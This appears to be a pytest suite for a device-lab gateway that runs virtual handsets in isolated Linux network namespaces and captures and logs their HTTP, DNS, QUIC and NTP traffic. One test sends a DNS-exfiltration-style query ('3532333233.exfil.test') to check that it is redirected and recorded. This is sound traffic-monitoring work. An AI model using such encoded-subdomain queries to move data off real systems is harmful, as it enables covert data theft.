"""The lab gateway on real namespaces: needs CAP_NET_ADMIN (skips, saying so, without it).

Every packet stays inside the namespaces each test creates (removed on every exit path) or on
loopback: the virtual internet plays its public addresses in a namespace of its own.
"""

from __future__ import annotations

import errno
import json
import os
import socket
import struct
import subprocess
import sys
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest
from mitmproxy import dns

from devicelab.capture import Capture, CaptureConfig
from devicelab.capture.gateway import netns, nft, privilege
from devicelab.capture.gateway.gateway import Gateway
from devicelab.capture.gateway.nsthread import NsThread
from devicelab.capture.gateway.packets import PCAP_HEADER
from tests.capture.helpers import upstream

pytestmark = pytest.mark.skipif(bool(privilege.missing()),
                                reason=f"the gateway needs {', '.join(privilege.missing())} (run as root)")

PUBLIC = "93.184.216.34"  # the lab plays this address inside its internet namespace only
NTP = b"\x1b" + b"\x00" * 47


@pytest.fixture
def lab(tmp_path: Path) -> Iterator[tuple[Gateway, Capture, object]]:
    with upstream() as server:
        routes = {PUBLIC: ("127.0.0.1", server.port)}
        capture = Capture(tmp_path / "capture", CaptureConfig(upstream_hosts=routes, upstream_only=True)).start()
        gateway = Gateway(tmp_path / "gateway", ["hs-1"], upstream={"zzhc.vnet.cn": PUBLIC}.get,
                          public=[PUBLIC], proxy=capture.address)
        try:
            gateway.start()
            yield gateway, capture, server
        finally:
            gateway.stop()
            capture.stop()


def _in(worker: NsThread, fn, *args):  # type: ignore[no-untyped-def]
    return worker.call(fn, *args)


def _http_get(address: str) -> bytes:
    with socket.create_connection((address, 80), timeout=5) as sock:
        sock.sendall(b"GET /register?imei=490154203237518 HTTP/1.1\r\nHost: zzhc.vnet.cn\r\nConnection: close\r\n\r\n")
        data = b""
        while chunk := sock.recv(4096):
            data += chunk
        return data


def _dns_query(server: str, name: str) -> bytes:
    query = dns.Message(timestamp=0, id=7, query=True, op_code=0, authoritative_answer=False, truncation=False,
                        recursion_desired=True, recursion_available=False, reserved=0, response_code=0,
                        questions=[dns.Question(name, dns.types.A, dns.classes.IN)], answers=[], authorities=[],
                        additionals=[])
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(5)
        sock.sendto(query.packed, (server, 53))
        return sock.recv(4096)


def _udp(address: str, port: int, payload: bytes, expect_reply: bool) -> bytes:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(2 if expect_reply else 0.3)
        sock.sendto(payload, (address, port))
        try:
            return sock.recv(4096)
        except TimeoutError:
            return b""


def _connect_error(address: str) -> str:
    with socket.socket() as sock:
        sock.settimeout(5)
        try:
            sock.connect((address, 80))
        except OSError as exc:
            return os.strerror(exc.errno) if exc.errno else str(exc)
        return "connected"


def _route_error(address: str) -> str:
    """A UDP connect looks the route up at once, without sending anything."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        try:
            sock.connect((address, 9))
        except OSError as exc:
            return os.strerror(exc.errno) if exc.errno else str(exc)
        return "routed"


def test_a_probe_toward_an_outside_address_finds_no_route(tmp_path: Path) -> None:
    forwarding = Path("/proc/sys/net/ipv4/ip_forward").read_text()
    topo = netns.build(["probe"], [PUBLIC])
    try:
        handset = NsThread(topo.handsets["probe"].namespace)
        try:  # the gateway answers "no route" (ICMP net unreachable) for the handset
            assert _in(handset, _connect_error, "8.8.8.8") == os.strerror(errno.ENETUNREACH)
        finally:
            handset.close()
        for ns in (topo.gateway, topo.internet):
            worker = NsThread(ns)
            try:  # neither the gateway nor the internet has a route anywhere but the lab's own links
                for outside in ("8.8.8.8", "192.168.1.1", "10.0.0.1", "172.17.0.1"):
                    assert _in(worker, _route_error, outside) == os.strerror(errno.ENETUNREACH), (ns, outside)
                assert _in(worker, _route_error, PUBLIC) == "routed"
            finally:
                worker.close()
    finally:
        netns.remove(topo)
    assert Path("/proc/sys/net/ipv4/ip_forward").read_text() == forwarding  # the root's forwarding untouched
    assert not [name for name in netns.netns.listnetns() if name.startswith(f"dl-{topo.run}")]


def test_tcp_is_read_by_the_proxy_and_every_packet_is_in_the_table(lab: tuple[Gateway, Capture, object]) -> None:
    gateway, capture, _ = lab
    handset = gateway.handset("hs-1")
    answer = _in(handset, _dns_query, gateway.link("hs-1").gateway_address, "zzhc.vnet.cn")
    address = str(dns.Message.unpack(answer).answers[0].ipv4_address)
    assert address == PUBLIC
    reply = _in(handset, _http_get, address)
    assert reply.startswith(b"HTTP/1.1 200")
    flows = capture.read().flows
    assert [(f.request.host, f.request.path) for f in flows if "imei" in f.request.path] == [
        ("zzhc.vnet.cn", "/register?imei=490154203237518")]
    rows = gateway.connections("hs-1")
    tcp = [r for r in rows if r["proto"] == "tcp" and r["remote"] == f"{PUBLIC}:80"]
    assert len(tcp) == 1
    assert tcp[0]["bytes_up"] > 60
    assert tcp[0]["bytes_down"] > 0
    assert "S" in tcp[0]["flags"]
    assert bytes.fromhex(tcp[0]["payload_up"]).startswith(b"GET /register?imei=")
    assert any(r["proto"] == "udp" and r["remote"].endswith(":53") for r in rows)


def test_dns_to_any_server_reaches_the_resolver_and_is_logged(lab: tuple[Gateway, Capture, object]) -> None:
    gateway, _, _ = lab
    # a hard-coded public resolver: the rules redirect it; nothing goes toward 8.8.8.8
    reply = dns.Message.unpack(_in(gateway.handset("hs-1"), _dns_query, "8.8.8.8", "3532333233.exfil.test"))
    assert reply.response_code == 3  # NXDOMAIN: the lab's upstream does not know it
    summary = gateway.stop()
    logged = [json.loads(line) for line in (gateway.workdir / "dns-queries.ndjson").read_text().splitlines()]
    assert [(q["name"], q["type"], q["answer"]) for q in logged] == [("3532333233.exfil.test", "A", "")]
    assert summary["counters"]["dns_redirect"][0] >= 1


def test_quic_is_dropped_but_recorded_and_other_udp_is_forwarded(lab: tuple[Gateway, Capture, object]) -> None:
    gateway, _, _ = lab
    assert gateway.topology is not None
    internet = NsThread(gateway.topology.internet)
    ntp = _in(internet, _udp_server, PUBLIC, 123)
    try:
        handset = gateway.handset("hs-1")
        assert _in(handset, _udp, PUBLIC, 443, b"\xc0quic-initial", False) == b""
        assert _in(handset, _udp, PUBLIC, 123, NTP, True)[:1] == b"\x1c"
    finally:
        ntp.close()
        internet.close()
    summary = gateway.stop()
    table = json.loads((gateway.workdir / "hs-1.connections.json").read_text())["connections"]
    quic = [r for r in table if r["remote"] == f"{PUBLIC}:443"]
    assert [(r["proto"], r["packets_up"], r["packets_down"]) for r in quic] == [("udp", 1, 0)]
    ntp_rows = [r for r in table if r["remote"] == f"{PUBLIC}:123"]
    assert [(r["bytes_up"], r["bytes_down"]) for r in ntp_rows] == [(48, 48)]
    assert summary["counters"]["quic_drop"][0] == 1
    pcap = (gateway.workdir / "hs-1.pcap").read_bytes()
    assert pcap.startswith(PCAP_HEADER)
    assert len(pcap) > len(PCAP_HEADER) + 4 * 16


def _udp_server(address: str, port: int) -> socket.socket:
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.bind((address, port))

    def serve() -> None:
        while True:
            try:
                data, peer = sock.recvfrom(2048)
            except OSError:
                return
            sock.sendto(b"\x1c" + data[1:], peer)  # an NTP server's mode-4 answer

    threading.Thread(target=serve, daemon=True).start()
    return sock


def test_the_rules_apply_twice_and_the_namespaces_go_with_the_gateway(tmp_path: Path) -> None:
    topo = netns.build(["a", "b"])
    try:
        gateway = NsThread(topo.gateway)
        try:
            rules = nft.ruleset(["gw-hs0", "gw-hs1"], "gw-up", proxy_port=8080, dns_port=5353)
            gateway.call(nft.apply, rules)
            gateway.call(nft.apply, rules)
            assert set(gateway.call(nft.counters)) >= {"quic_drop", "dns_redirect", "tcp_redirect"}
        finally:
            gateway.close()
    finally:
        netns.remove(topo)
        netns.remove(topo)  # a second call is a no-op
    assert not [name for name in netns.netns.listnetns() if name.startswith(f"dl-{topo.run}")]


def test_without_the_capability_the_error_names_it(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(privilege, "effective_capabilities", lambda: 0)
    with pytest.raises(privilege.GatewayPrivilegeError, match="CAP_NET_ADMIN"):
        netns.build(["x"])


def test_a_pcap_record_is_nanosecond_ethernet() -> None:
    magic, major, minor, _, _, _, linktype = struct.unpack("<IHHiIII", PCAP_HEADER)
    assert (magic, major, minor, linktype) == (0xA1B23C4D, 2, 4, 1)


def test_a_socket_made_in_a_handset_namespace_may_be_used_from_the_root_one(tmp_path: Path) -> None:
    # what the virtual handsets do: a kernel socket made in their namespace, used from the lab's loop
    from devicelab.lab import netguard

    topo = netns.build(["a"])
    try:
        handset = NsThread(topo.handsets["a"].namespace)
        try:
            sock = handset.call(socket.socket, socket.AF_INET, socket.SOCK_DGRAM)
            with sock:
                sock.sendto(b"x", (PUBLIC, 9))  # not refused: the socket is not in the root namespace
        finally:
            handset.close()
        if netguard.installed():
            with netguard.expecting_refusals(), socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as root_sock, \
                    pytest.raises(netguard.OffMachineError):
                root_sock.sendto(b"x", (PUBLIC, 9))  # the same from a root-namespace socket is refused
    finally:
        netns.remove(topo)


def test_namespaces_left_by_a_killed_run_are_swept(tmp_path: Path) -> None:
    code = ("import sys, time; from devicelab.capture.gateway import netns; "
            "t = netns.build(['k']); print(t.run, flush=True); time.sleep(60)")
    proc = subprocess.Popen([sys.executable, "-c", code], stdout=subprocess.PIPE, text=True)
    try:
        assert proc.stdout is not None
        run = proc.stdout.readline().strip()
        assert [n for n in netns.netns.listnetns() if n.startswith(f"dl-{run}")]
    finally:
        proc.kill()  # SIGKILL: no cleanup code runs
        proc.wait(10)
        if proc.stdout is not None:
            proc.stdout.close()
    removed = netns.sweep()
    assert {f"dl-{run}-gw", f"dl-{run}-net", f"dl-{run}-hs0"} <= set(removed)
    assert not [n for n in netns.netns.listnetns() if n.startswith(f"dl-{run}")]
